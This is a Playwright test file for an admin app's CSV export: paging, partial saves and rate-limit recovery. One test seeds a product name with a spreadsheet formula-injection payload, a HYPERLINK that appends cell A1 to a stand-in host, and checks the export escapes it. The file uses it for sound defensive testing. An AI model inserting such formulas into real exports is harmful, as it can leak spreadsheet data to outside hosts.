import { readFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import Papa from 'papaparse'
import { ruth } from '#sandbox/account/people.seeds'
import { expect, test } from '../../support/fixtures'
import { openCatalogue } from '../catalogue/steps'
import { dialog, dialogButton, openUsers } from '../steps'
import { exportList } from './steps'

type Rows = { readonly users: readonly { readonly id: string; readonly username: string }[] }

/** Returns the name and the rows of the file that a click saves. */
async function fileAfter(page: Page, click: () => Promise<void>) {
  const [download] = await Promise.all([page.waitForEvent('download'), click()])
  const text = await readFile(await download.path(), 'utf8')
  const { data } = Papa.parse<Record<string, string>>(text, { header: true })
  return { name: download.suggestedFilename(), text, rows: data }
}

test.beforeEach(async ({ sandbox }) => sandbox.signIn(ruth))

test('all rows of a filtered list are saved, also those of other pages', async ({ page, sandbox }) => {
  await openUsers(page, '?status=active')
  const { users } = await sandbox.call<Rows>('GET', '/admin/users?status=active&limit=100')
  const file = await fileAfter(page, () => exportList(page))
  expect(file.name).toMatch(/^users-active-\d{4}-\d\d-\d\d\.csv$/)
  expect(file.text).toMatch(/^\uFEFFUsername,Email,Status,User ID,/)
  expect(file.rows.map((row) => row['User ID'])).toEqual(users.map(({ id }) => id))
  const saved = dialog(page)
    .getByRole('status')
    .filter({ hasText: `Saved ${users.length} users to ${file.name}.` })
  await expect(saved).toBeFocused()
  const again = await fileAfter(page, () => dialogButton(page, 'Download again').click())
  expect(again).toEqual(file)
  await dialogButton(page, 'Close').last().click()
  await expect(dialog(page)).toHaveCount(0)
  await expect(page).toHaveURL('/admin/users?status=active')
})

test('a formula in a name is saved as a text', async ({ page, sandbox }) => {
  const name = '=HYPERLINK("http://x.test?"&A1,"Müller, 😀")'
  await sandbox.call('PUT', '/products/ACPMH', { name })
  await openCatalogue(page, 'Products', 'search=ACPMH')
  const file = await fileAfter(page, () => exportList(page))
  expect(file.name).toMatch(/^products-acpmh-/)
  expect(file.rows).toMatchObject([{ 'Product ID': 'ACPMH', 'Product Name': `'${name}`, Enabled: 'yes' }])
})

test('Escape stops an export, and the loaded rows are saved as a partial file', async ({ page, sandbox }) => {
  await sandbox.grow()
  await sandbox.signIn(ruth)
  await openUsers(page)
  await sandbox.fault({ operationId: 'listUsers', kind: 'held', skip: 2 })
  await exportList(page)
  await expect(dialog(page).getByText('Loaded 200 of 10,000 users', { exact: true })).toBeVisible()
  await expect(dialog(page).getByRole('progressbar')).toHaveAttribute('aria-valuenow', '200')
  await page.keyboard.press('Escape')
  await expect(dialog(page).getByText('Stopped. Loaded 200 of 10,000 users so far.')).toBeVisible()
  const { name, rows } = await fileAfter(page, () => dialogButton(page, 'Save partial file').click())
  expect([name, rows.length]).toEqual([expect.stringMatching(/^users-partial-[\d-]+\.csv$/), 200])
  await expect(dialog(page).getByText(`Saved 200 of 10,000 users to ${name}.`)).toBeVisible()
  await page.keyboard.press('Escape')
  await expect(dialog(page)).toHaveCount(0)
})

test('after a failed page, Continue loads the rest once', async ({ page, sandbox }) => {
  await sandbox.grow()
  await sandbox.signIn(ruth)
  await openUsers(page, '?status=banned')
  const requested: string[] = []
  page.on('request', (request) => {
    const { pathname, searchParams } = new URL(request.url())
    if (pathname.endsWith('/admin/users') && request.method() === 'GET') requested.push(searchParams.get('page') ?? '')
  })
  const limited = {
    operationId: 'listUsers',
    kind: 'status',
    status: 429,
    message: 'Slow down.',
    retryAfter: 1,
  } as const
  await sandbox.fault({ ...limited, skip: 1, times: 1 })
  await exportList(page)
  await expect(dialog(page).getByRole('alert')).toContainText('Slow down.')
  await expect(dialog(page).getByRole('alert')).toContainText(/Loaded 100 of [\d,]+ users so far\./)
  await expect(dialogButton(page, 'Continue')).toBeDisabled()
  await expect(dialogButton(page, 'Continue')).toBeEnabled()
  const { name, rows } = await fileAfter(page, () => dialogButton(page, 'Continue').click())
  const ids = new Set(rows.map((row) => row['User ID']))
  expect([ids.size, name]).toEqual([rows.length, expect.stringMatching(/^users-banned-[\d-]+\.csv$/)])
  expect(requested).toEqual([
    '1',
    '2',
    ...Array.from({ length: Math.ceil(ids.size / 100) - 1 }, (_, at) => `${at + 2}`),
  ])
})
